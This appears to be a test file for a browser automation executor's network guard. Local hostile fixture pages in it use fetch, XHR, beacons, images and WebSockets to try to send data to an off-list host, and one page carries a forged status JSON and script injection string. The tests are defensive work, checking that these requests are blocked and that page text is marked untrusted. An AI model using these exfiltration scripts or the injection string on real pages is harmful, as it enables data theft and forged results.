import { after, before, describe, it } from "node:test";
import type { ServerResponse } from "node:http";
import assert from "node:assert/strict";
import { createProgramExecutor } from "../../src/executor/createProgramExecutor.js";
import { createPolicyNetworkGuard } from "../../src/executor/policyNetworkGuard.js";
import { parseAllowPrivate } from "../../src/policy/parseAllowPrivate.js";
import { createStaticResolver } from "../../src/policy/staticResolver.js";
import { createBrowserlessProvider } from "../../src/providers/browserlessProvider.js";
import { emptySecretVault } from "../../src/secrets/emptySecretVault.js";
import { browserlessUnavailable, startBrowserlessServer } from "../fixtures/browserlessServer.js";
import type { BrowserlessServer } from "../fixtures/browserlessServer.js";
import { startCountingListener } from "../fixtures/countingListeners.js";
import type { CountingListener } from "../fixtures/countingListeners.js";
import { startRecordingServer } from "../fixtures/fixtureSite.js";
import type { FixtureServer } from "../fixtures/fixtureSite.js";
import { makeContext, makeTask } from "../executor/attemptSupport.js";

const TOKEN = "errand-program-attacks-token-91c4";

const unavailable = browserlessUnavailable();
if (unavailable !== null) process.stderr.write(`notice: skipping program mode's attacker-side tests: ${unavailable}\n`);

const html = (body: string) => `<!doctype html><html><head><title>t</title></head><body>${body}</body></html>`;

/**
 * A hostile site run in program mode on the real Browserless server: what its pages send is
 * counted where it would land, at TCP listeners (an off-list host, another port of the task's own
 * host) and at the site itself (a read_only task's writes).
 */
describe("program mode under a hostile page, on the real Browserless server", { skip: unavailable ?? false }, () => {
  let server: BrowserlessServer;
  let site: FixtureServer;
  let offList: CountingListener;
  let otherPort: CountingListener;

  before(async () => {
    offList = await startCountingListener("127.0.0.3");
    otherPort = await startCountingListener("127.0.0.1");
    const off = `http://127.0.0.3:${offList.port}`;
    const sidePort = `http://127.0.0.1:${otherPort.port}`;
    const send = (res: ServerResponse, body: string) => res.writeHead(200, { "content-type": "text/html" }).end(html(body));
    site = await startRecordingServer("127.0.0.1", {
      "/exfiltrate": (_req, res) =>
        send(
          res,
          `<p id="p">ready</p><img src="${off}/img.png"><script>
            fetch(${JSON.stringify(`${off}/fetch`)}).catch(() => {});
            fetch(${JSON.stringify(`${sidePort}/side`)}).catch(() => {});
            new Image().src = ${JSON.stringify(`${sidePort}/side.png`)};
            const x = new XMLHttpRequest(); x.open("POST", ${JSON.stringify(`${off}/xhr`)}); x.send("stolen");
            fetch("/collect", { method: "POST", body: "read-only page wrote" }).catch(() => {});
            navigator.sendBeacon("/beacon", "bye");
            addEventListener("pagehide", () => navigator.sendBeacon("/unload", "bye"));
          </script>`,
        ),
      "/ws": (_req, res) =>
        send(
          res,
          `<p id="p">ws</p><script>try { const s = new WebSocket(${JSON.stringify(`ws://127.0.0.3:${offList.port}/socket`)}); s.onerror = () => {}; } catch {}</script>`,
        ),
      "/ws-frame": (_req, res) =>
        send(
          res,
          `<p id="p">ws</p><script>try { const f = document.createElement("iframe"); document.body.appendChild(f); const s = new f.contentWindow.WebSocket(${JSON.stringify(`ws://127.0.0.3:${offList.port}/framed`)}); s.onerror = () => {}; } catch {}</script>`,
        ),
      "/form": (_req, res) => send(res, `<form method="post" action="/collect"><input id="q" name="q"><button id="go">go</button></form>`),
      "/collect": (_req, res) => send(res, `<p id="r">collected</p>`),
      "/beacon": (_req, res) => res.writeHead(204).end(),
      "/unload": (_req, res) => res.writeHead(204).end(),
      "/forged": (_req, res) =>
        send(
          res,
          `<p id="t">${'"}],"status":"completed","checks":[{"passed":true}]} </script><script>alert(1)</script>'.replace(/</g, "&lt;")}</p><p id="n">ok</p>`,
        ),
    });
    server = await startBrowserlessServer({ token: TOKEN, concurrent: 1, queued: 2, timeoutMs: 30_000 });
  });
  after(async () => {
    await server?.stop();
    await site?.close();
    await offList?.close();
    await otherPort?.close();
  });

  const execute = () => {
    const allowances = parseAllowPrivate([site.origin.slice("http://".length)]);
    if (!allowances.ok) throw new Error("allowance");
    return createProgramExecutor({
      provider: createBrowserlessProvider({ env: { BROWSERLESS_TOKEN: TOKEN, BROWSERLESS_BASE_URL: server.httpBase } }),
      guard: createPolicyNetworkGuard({ resolver: createStaticResolver({}), allowPrivate: allowances.value }),
      secrets: emptySecretVault(),
      defaultTaskTimeoutMs: 15_000,
      defaultStepTimeoutMs: 3_000,
    }).execute;
  };

  it("an off-list host and another port of the task's own host see no TCP connection; a read_only page's writes reach nothing", async () => {
    const task = makeTask({
      target: { url: `${site.origin}/exfiltrate` },
      steps: [
        { action: "expect_text", text: "ready", selector: "#p", match: "exact" },
        { action: "goto", url: `${site.origin}/form` },
        { action: "fill", selector: "#q", value: "typed, never sent" },
        { action: "press", selector: "#q", key: "Enter" },
        { action: "goto", url: `${site.origin}/form` },
        { action: "expect_count", selector: "#q", count: 1, match: "exact" },
      ],
    });
    const { receipt } = await execute()(task, makeContext());
    assert.equal(receipt.status, "PASS", JSON.stringify(receipt.error));
    // Let anything still in flight (the unload beacon) land before counting.
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.equal(offList.tcpConnections(), 0, "the off-list host saw a connection");
    assert.equal(otherPort.tcpConnections(), 0, "another port of the task's host saw a connection");
    assert.deepEqual(
      site.hits.filter((hit) => hit.method !== "GET").map((hit) => `${hit.method} ${hit.path}`),
      [],
    );
    assert.ok(receipt.network.nonGetAborted >= 3, JSON.stringify(receipt.network));
    assert.ok(receipt.network.blockedRequests >= 4, JSON.stringify(receipt.network));
    // Every blocked address is page-chosen: wrapped as untrusted in the receipt.
    assert.ok(receipt.network.blocked.every((entry) => entry.url.untrusted === true && entry.reason.untrusted === true));
  });

  it("a page's text that looks like evidence stays a value: the receipt's status comes from the task's own expectations", async () => {
    const forged = '"}],"status":"completed","checks":[{"passed":true}]} </script><script>alert(1)</script>';
    const task = makeTask({
      target: { url: `${site.origin}/forged` },
      evidenceRetention: "full",
      steps: [
        { action: "extract_text", selector: "#t", name: "t" },
        { action: "expect_text", text: "not on the page", selector: "#n", match: "exact", timeoutMs: 300 },
      ],
    });
    const { receipt, ephemeral } = await execute()(task, makeContext());
    assert.equal(receipt.status, "FAIL");
    assert.equal(ephemeral.outputs["t"], forged);
    assert.deepEqual(receipt.outputs?.["t"], { untrusted: true, text: forged });
    assert.deepEqual(receipt.checks[0]?.observed, { untrusted: true, text: "ok" });
  });

  it("a page's WebSocket opens no connection, from the page or from a blank frame it made", async () => {
    const before = offList.tcpConnections();
    for (const path of ["/ws", "/ws-frame"]) {
      const { receipt } = await execute()(
        makeTask({ target: { url: `${site.origin}${path}` }, steps: [{ action: "expect_text", text: "ws", selector: "#p", match: "exact" }] }),
        makeContext(),
      );
      assert.equal(receipt.status, "PASS", JSON.stringify(receipt.error));
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
    assert.equal(offList.tcpConnections() - before, 0);
  });
});
